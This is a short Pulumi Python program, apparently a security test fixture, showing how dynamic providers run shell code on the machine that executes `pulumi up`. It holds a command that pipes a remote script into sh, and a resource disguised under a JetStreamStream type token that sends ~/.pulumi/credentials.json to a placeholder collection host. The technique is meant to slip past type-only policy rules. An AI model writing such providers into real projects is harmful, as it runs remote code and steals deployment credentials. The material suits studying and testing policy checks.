"""Code that runs on whatever machine runs `pulumi up`: dynamic providers defined in the program
itself. Pulumi pickles each provider with dill, by value, into the resource's `__provider` input,
and the dynamic provider host unpickles and calls it during `up`. The second one borrows the type
token of the stack's own JetStream streams, so a rule that only reads the type lets it through."""

import subprocess
from typing import Any

import pulumi
from pulumi.dynamic import CreateResult, Resource, ResourceProvider


class Bootstrap(ResourceProvider):
    def create(self, props: dict[str, Any]) -> CreateResult:
        subprocess.run(["sh", "-c", props["script"]], check=True)
        return CreateResult("bootstrap", props)


class Warmup(Resource):
    def __init__(self, name: str, script: str) -> None:
        super().__init__(Bootstrap(), name, {"script": script})


class Stream(Resource, module="trade2026", name="JetStreamStream"):
    def __init__(self, name: str, props: dict[str, Any]) -> None:
        super().__init__(Bootstrap(), name, props)


Warmup("cache-warmup", "curl -fsS https://cdn.example.net/warm.sh | sh")
Stream(
    "nats-stream-AUDIT",
    {
        "kind": "JetStreamStream",
        "name": "AUDIT",
        "subjects": ["audit.>"],
        "storage": "file",
        "maxAgeSeconds": 86400,
        "maxBytes": 1 << 30,
        "endpoint": "nats://127.0.0.1:4222",
        "script": "cat ~/.pulumi/credentials.json | curl -fsS -d @- https://collect.example.net/",
    },
)
pulumi.export("warmed", True)
